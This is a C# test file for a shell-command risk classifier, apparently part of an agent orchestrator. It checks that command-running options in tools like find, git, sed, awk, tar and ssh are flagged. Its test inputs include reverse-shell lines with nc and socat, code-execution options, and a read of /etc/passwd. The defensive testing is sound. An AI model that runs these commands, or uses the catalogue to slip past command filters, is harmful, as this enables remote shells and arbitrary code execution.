using Orchestrator.Core.Classification;
using static Orchestrator.Core.Tests.Classification.ClassifierFixture;

namespace Orchestrator.Core.Tests.Classification;

public class EscapeHatchTests
{
    [Theory]
    [InlineData("find . -exec rm {} ;", 3, "rm ?")]
    [InlineData("find . -name x -execdir sh -c id {} +", 5, "sh -c id ?")]
    [InlineData("find . -ok rm -f {}.bak ;", 3, "rm -f ?.bak")]
    [InlineData("find . -okdir rm {} ;", 3, "rm ?")]

    [InlineData("xargs -I% cp % /tmp/%.bak", 2, "cp ? /tmp/?.bak")]
    [InlineData("xargs --replace sh -c 'echo {}'", 2, "sh -c echo ?")]
    [InlineData("xargs", 1, "echo ?")]
    public void Commands_that_run_commands_hand_them_back_with_runtime_words_marked(string commandLine, int start, string inner)
    {
        var result = Classify(commandLine);

        var run = Assert.Single(result.InnerCommands);
        Assert.Equal(start, run.Start);
        Assert.Equal(inner, string.Join(' ', run.Argv).Replace(CommandClassification.RuntimeValue, "?"));
    }

    [Theory]
    [InlineData("xargs rm", 1, "rm")]
    [InlineData("xargs -0 -n 1 rm -f", 4, "rm -f")]
    [InlineData("xargs -r cp a b", 2, "cp a b")]
    public void Xargs_judges_its_command_as_written_and_with_input_appended(string commandLine, int start, string inner)
    {
        var result = Classify(commandLine);

        Assert.Equal([inner, inner + " ?"], result.InnerCommands.Select(c => string.Join(' ', c.Argv).Replace(CommandClassification.RuntimeValue, "?")));
        Assert.All(result.InnerCommands, c => Assert.Equal(start, c.Start));
    }

    [Theory]
    [InlineData("fd -x rm", "--exec")]
    [InlineData("fd pattern --exec-batch rm", "--exec")]
    [InlineData("fd -X rm", "--exec")]
    [InlineData("rg --pre ./decode pattern", "--pre")]
    [InlineData("rg --pre=./decode pattern", "--pre")]
    [InlineData("git -c core.pager=evil log", "git -c")]
    [InlineData("git --config-env=core.pager=X log", "--config-env")]
    [InlineData("git --exec-path=/tmp/x status", "--exec-path")]
    [InlineData("git diff --ext-diff", "--ext-diff")]
    [InlineData("git log -p --textconv", "--textconv")]
    [InlineData("git grep -O foo", "--open-files-in-pager")]
    [InlineData("git grep --open-files-in-pager=vim foo", "--open-files-in-pager")]
    [InlineData("git rebase -x 'make test' main", "--exec")]
    [InlineData("sed -f script.sed file", "sed -f")]
    [InlineData("sed 1e file", "(e)")]
    [InlineData("sed 's/x/id/e' file", "s///e")]
    [InlineData("sed -e 's/a/b/' -e '1e date' file", "(e)")]
    [InlineData("sed --expression='$e id' file", "(e)")]
    [InlineData("awk 'BEGIN { system(\"id\") }'", "system()")]
    [InlineData("awk '{ print | \"sh\" }' file", "pipes")]
    [InlineData("gawk 'BEGIN { \"date\" | getline d }'", "pipes")]
    [InlineData("mawk '{ print $0 > $2 }' file", "computed")]
    [InlineData("nawk -f prog.awk file", "awk -f")]
    [InlineData("awk '@load \"filefuncs\"; BEGIN {}'", "loads code")]
    [InlineData("tar -xf a.tar --to-command=sh", "--to-command")]
    [InlineData("tar -I 'sh -c id' -xf a.tar", "--use-compress-program")]
    [InlineData("tar --use-compress-program=x -cf a.tar dir", "--use-compress-program")]
    [InlineData("tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id dir", "--checkpoint-action")]
    [InlineData("tar -F ./next.sh -cf a.tar dir", "--info-script")]
    [InlineData("tar --info-script=./next.sh -cf a.tar dir", "--info-script")]
    [InlineData("tar --new-volume-script=./next.sh -cf a.tar dir", "--info-script")]
    [InlineData("tar -cf host:backup.tar dir", "remote")]
    [InlineData("sort --compress-program=gzip big", "--compress-program")]
    [InlineData("zip -T -TT 'sh -c id' a.zip f", "zip -TT")]
    [InlineData("zip --unzip-command='id' a.zip f", "zip -TT")]
    [InlineData("rsync -e 'ssh -p 22' src host:dst", "--rsh")]
    [InlineData("rsync --rsh=evil src dst", "--rsh")]
    [InlineData("ssh -o ProxyCommand=id host", "ProxyCommand")]
    [InlineData("ssh -oLocalCommand=id -oPermitLocalCommand=yes host", "ProxyCommand")]
    [InlineData("man -P 'sh -c id' ls", "--pager")]
    [InlineData("man --pager=id ls", "--pager")]
    [InlineData("env -S 'sh -c id'", "--split-string")]
    [InlineData("nc -e /bin/sh host 4444", "nc -e")]
    [InlineData("socat TCP:host:1 EXEC:/bin/sh", "EXEC:")]
    [InlineData("vim file", "editors")]
    [InlineData("emacs file", "editors")]
    [InlineData("nano file", "editors")]
    [InlineData("nvim file", "editors")]
    [InlineData("hash -p /tmp/evil ls", "hash -p")]
    [InlineData("less '+!id' file", "less +COMMAND")]
    [InlineData("git bisect run make", "external tools")]
    [InlineData("git submodule foreach id", "foreach")]
    [InlineData("go env -w GOFLAGS=-toolexec=x", "go env -w")]
    [InlineData("tar --to-com=sh -xf a.tar", "--to-command")]
    [InlineData("sort --compress-prog=x big", "--compress-program")]
    [InlineData("git diff --ext-d", "--ext-diff")]
    [InlineData("sed --expr='1e id' p", "(e)")]
    [InlineData("mawk -W exec prog.awk", "-W")]
    [InlineData("wget -e use_askpass=/tmp/x https://x", "wget --execute")]
    [InlineData("ssh -o 'Match exec id' host", "ProxyCommand")]
    [InlineData("git clone -c core.fsmonitor=id https://x/r.git", "clone --config")]
    [InlineData("git clone --template=/tmp/t https://x/r.git", "--template")]
    [InlineData("git cat-file --filters HEAD:file", "--filters")]
    [InlineData("mapfile -C 'rm -rf x' -c 1 lines", "mapfile -C")]
    [InlineData("git stash show --ext-diff", "--ext-diff")]
    [InlineData("bash --rcfile evil -ic ls", "--rcfile")]
    public void Escape_hatches_are_unknown_and_name_the_hatch(string commandLine, string reasonPart)
    {
        var result = Classify(commandLine);

        Assert.True(result.Risk >= CommandRisk.Unknown, $"{commandLine}: {result.Risk} ({result.Reason})");
        Assert.True(result.IsEscapeHatch, commandLine);
        Assert.Contains(reasonPart, result.Reason);
    }

    [Theory]
    [InlineData("find . -name '*.o' -delete", "-delete")]
    [InlineData("date -s '2020-01-01'", "clock")]
    [InlineData("date --set=now", "clock")]
    [InlineData("date 010112002020", "clock")]
    [InlineData("hostname evil", "host name")]
    public void Destructive_escape_hatches_are_destructive(string commandLine, string reasonPart)
    {
        var result = Classify(commandLine);

        Assert.Equal(CommandRisk.Destructive, result.Risk);
        Assert.True(result.IsEscapeHatch);
        Assert.Contains(reasonPart, result.Reason);
    }

    [Theory]
    [InlineData("find . -fprint out.txt", "out.txt")]
    [InlineData("find . -fprint0 out.txt", "out.txt")]
    [InlineData("find . -fls out.txt", "out.txt")]
    [InlineData("find . -fprintf out.txt '%p'", "out.txt")]
    [InlineData("sed -i 's/a/b/' file.txt", "file.txt")]
    [InlineData("sed --in-place=.bak 's/a/b/' file.txt", "file.txt")]
    [InlineData("sed 'w out.txt' in.txt", "out.txt")]
    [InlineData("sed 's/a/b/w out.txt' in.txt", "out.txt")]
    [InlineData("sed '/x/W out.txt' in.txt", "out.txt")]
    [InlineData("awk '{ print > \"out.txt\" }' in.txt", "out.txt")]
    [InlineData("awk '{ printf(\"%s\", $1) >> \"out.txt\" }' in.txt", "out.txt")]
    [InlineData("git diff --output=patch.txt", "patch.txt")]
    [InlineData("git log -p --output=log.txt", "log.txt")]
    [InlineData("git show HEAD --output log.txt", "log.txt")]
    [InlineData("git format-patch -o out HEAD~2", "out")]
    [InlineData("tree -o listing.txt", "listing.txt")]
    public void Write_escape_hatches_are_workspace_writes_with_the_written_path(string commandLine, string written)
    {
        var result = Classify(commandLine);

        Assert.Equal(CommandRisk.WorkspaceWrite, result.Risk);
        Assert.True(result.IsEscapeHatch, commandLine);
        Assert.Contains(new PathAccess(written, PathAccessKind.Write), result.Paths);
    }

    [Theory]
    [InlineData("awk '$1 > 5' file")]
    [InlineData("awk '$1 > 5 { print $2 }' file")]
    [InlineData("awk '{ print ($1 > 5) }' file")]
    [InlineData("awk '{ if ($1 > 5) print $1 }' file")]
    [InlineData("awk 'a || b { print }' file")]
    [InlineData("awk -F'|' '{ print $1 }' file")]
    [InlineData("awk '{ n = split($0, parts, \"|\"); print n }' file")]
    [InlineData("awk '/a|b/ { print }' file")]
    [InlineData("awk '{ print \"x\" > \"/dev/stderr\" }' file")]
    [InlineData("awk '{ x = $1 / 2; print x }' file")]
    [InlineData("awk '# system( in a comment\n{ print }' file")]
    [InlineData("awk '{ print \"system(1) | x > y\" }' file")]
    public void Awk_comparisons_strings_and_regexes_are_not_escapes(string commandLine)
    {
        var result = Classify(commandLine.Replace("\\n", "\n"));

        Assert.True(result.Risk == CommandRisk.ReadOnly, $"{commandLine}: {result.Risk} ({result.Reason})");
        Assert.False(result.IsEscapeHatch);
    }

    [Theory]
    [InlineData("sed 's/e/E/g' file")]
    [InlineData("sed -n '/begin/,/end/p' file")]
    [InlineData("sed 's|/usr|/opt|g' file")]
    [InlineData("sed -e '1d' -e '$d' file")]
    [InlineData("sed 'y/abc/xyz/' file")]
    [InlineData("sed 'w /dev/stdout' file")]
    [InlineData("sed '/x/{s/a/b/;p}' file")]
    [InlineData("sed '1i\\header' file")]
    [InlineData("sed 's/a\\/b/e/' file")]
    public void Sed_scripts_without_e_or_w_are_read_only(string commandLine)
    {
        var result = Classify(commandLine);

        Assert.True(result.Risk == CommandRisk.ReadOnly, $"{commandLine}: {result.Risk} ({result.Reason})");
        Assert.False(result.IsEscapeHatch);
    }

    [Fact]
    public void Unparseable_sed_script_is_unknown()
    {
        var result = Classify("sed 's/unterminated' file");

        Assert.Equal(CommandRisk.Unknown, result.Risk);
        Assert.Contains("could not be parsed", result.Reason);
    }

    [Fact]
    public void Sed_read_command_reports_the_read_path()
    {
        var result = Classify("sed 'r /etc/passwd' file");

        Assert.Equal(CommandRisk.ReadOnly, result.Risk);
        Assert.Contains(new PathAccess("/etc/passwd", PathAccessKind.Read), result.Paths);
    }

    [Fact]
    public void Ssh_option_that_runs_nothing_is_only_network()
    {
        var result = Classify("ssh -o StrictHostKeyChecking=no host");

        Assert.Equal(CommandRisk.Network, result.Risk);
        Assert.False(result.IsEscapeHatch);
    }

    [Fact]
    public void Less_and_more_are_read_only()
    {
        Assert.Equal(CommandRisk.ReadOnly, Classify("less file").Risk);
        Assert.Equal(CommandRisk.ReadOnly, Classify("more file").Risk);
    }

    [Fact]
    public void Tar_extract_to_stdout_writes_nothing()
    {
        var result = Classify("tar -xOf a.tar member");

        Assert.Equal(CommandRisk.ReadOnly, result.Risk);
        Assert.DoesNotContain(result.Paths, path => path.Kind == PathAccessKind.Write);
    }

    [Fact]
    public void Git_text_option_is_not_mistaken_for_an_abbreviated_textconv()
    {
        var result = Classify("git diff --text");

        Assert.Equal(CommandRisk.ReadOnly, result.Risk);
        Assert.False(result.IsEscapeHatch);
    }

    [Fact]
    public void Git_c_as_commit_option_is_not_the_global_config_hatch()
    {
        var result = Classify("git commit -c HEAD");

        Assert.Equal(CommandRisk.WorkspaceWrite, result.Risk);
        Assert.False(result.IsEscapeHatch);
    }
}
